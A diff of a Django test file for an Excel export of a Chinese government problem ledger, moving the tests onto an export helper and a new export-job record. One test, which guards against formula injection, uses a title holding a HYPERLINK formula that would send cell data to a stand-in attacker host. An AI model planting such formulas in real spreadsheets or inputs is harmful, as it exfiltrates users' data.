@@ -10,6 +10,8 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from qingshan.audit.models import AuditEvent
+from qingshan.ledgers.models import ExportJob
+from qingshan.ledgers.testing import export_response
 from qingshan.problems import services as problem_services
 from qingshan.problems.choices import State
 from qingshan.problems.testing.flows import drive_to, new_problem
@@ -18,7 +20,6 @@ from qingshan.problems.testing.world import WORLD_NOW, png
 pytestmark = pytest.mark.django_db
 
 LEDGER = reverse("ledgers:ledger", args=["problems"])
-EXPORT = reverse("ledgers:export", args=["problems"])
 
 
 @pytest.fixture(autouse=True)
@@ -148,7 +149,7 @@ def test_export_has_the_same_rows_as_the_page_with_dates_as_dates(client, world)
     drive_to(world, State.SIGNED, lead=world.lvshui_housing, handler=world.housing_handler, region=world.lvshui)
     client.force_login(world.eco_handler)
     page = client.get(LEDGER)
-    response = client.get(EXPORT)
+    response = export_response(client, "problems")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
     rows = workbook_rows(response)
@@ -167,7 +168,7 @@ def test_export_follows_the_filters_and_names_them(client, world):
     closed = drive_to(world, State.CLOSED)
     drive_to(world, State.SIGNED)
     client.force_login(world.officer)
-    rows = workbook_rows(client.get(EXPORT, {"status": "closed", "unit": world.eco.pk}))
+    rows = workbook_rows(export_response(client, "problems", {"status": "closed", "unit": world.eco.pk}))
     assert "筛选条件：主办单位：市生态环境局；已销账　" in rows[1][0]
     assert [r[0] for r in rows[3:]] == [closed.number]
 
@@ -175,15 +176,17 @@ def test_export_follows_the_filters_and_names_them(client, world):
 def test_export_is_recorded_with_the_exporter(client, world):
     drive_to(world, State.SIGNED)
     client.force_login(world.officer)
-    b"".join(client.get(EXPORT, {"status": "open"}).streaming_content)
+    b"".join(export_response(client, "problems", {"status": "open"}).streaming_content)
     event = AuditEvent.objects.get(object_type="ledgers.export")
     assert (event.actor, event.actor_org, event.action) == (world.officer, world.office, "export")
-    assert event.payload == {"ledger": "problems", "filters": "未销账", "rows": 1}
+    job = ExportJob.objects.get()
+    assert event.payload == {"ledger": "problems", "filters": "未销账", "job": job.pk}
+    assert job.rows_written == 1
 
 
 def test_export_file_name_is_chinese(client, world):
     client.force_login(world.officer)
-    response = client.get(EXPORT)
+    response = export_response(client, "problems")
     disposition = response["Content-Disposition"]
     assert disposition.startswith("attachment; filename*=utf-8''")
     assert re.fullmatch(r"问题清单台账_20260302_\d{4}\.xlsx", unquote(disposition.split("''", 1)[1]))
@@ -192,7 +195,7 @@ def test_export_file_name_is_chinese(client, world):
 
 def test_bad_export_filter_is_refused_and_nothing_recorded(client, world):
     client.force_login(world.officer)
-    response = client.get(EXPORT, {"period_from": "2026-13-40"}, follow=True)
+    response = export_response(client, "problems", {"period_from": "2026-13-40"})
     assert "筛选条件有误：输入一个有效的日期。" in response.content.decode()
     assert not AuditEvent.objects.filter(object_type="ledgers.export").exists()
 
@@ -221,7 +224,7 @@ def test_export_query_count_is_the_same_for_10_and_200_rows(client, world, asser
 def test_a_user_without_an_organisation_cannot_export(client, world):
     drive_to(world, State.SIGNED)
     client.force_login(world.outsider)
-    response = client.get(EXPORT, follow=True)
+    response = export_response(client, "problems")
     assert "您没有所属单位，不能导出台账。" in response.content.decode()
     assert page_numbers(response) == []
     assert not AuditEvent.objects.filter(object_type="ledgers.export").exists()
@@ -231,7 +234,7 @@ def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, world):
     """Formula injection: a user's text starting with "=" must reach Excel as text, never as a live formula."""
     problem = drive_to(world, State.SIGNED, title='=HYPERLINK("http://evil.example/?x="&A1,"点击查看")')
     client.force_login(world.officer)
-    response = client.get(EXPORT)
+    response = export_response(client, "problems")
     book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
     [cell] = [row[1] for row in book.active.iter_rows(min_row=4) if row[0].value == problem.number]
     assert (cell.value, cell.data_type) == (problem.title, "s")
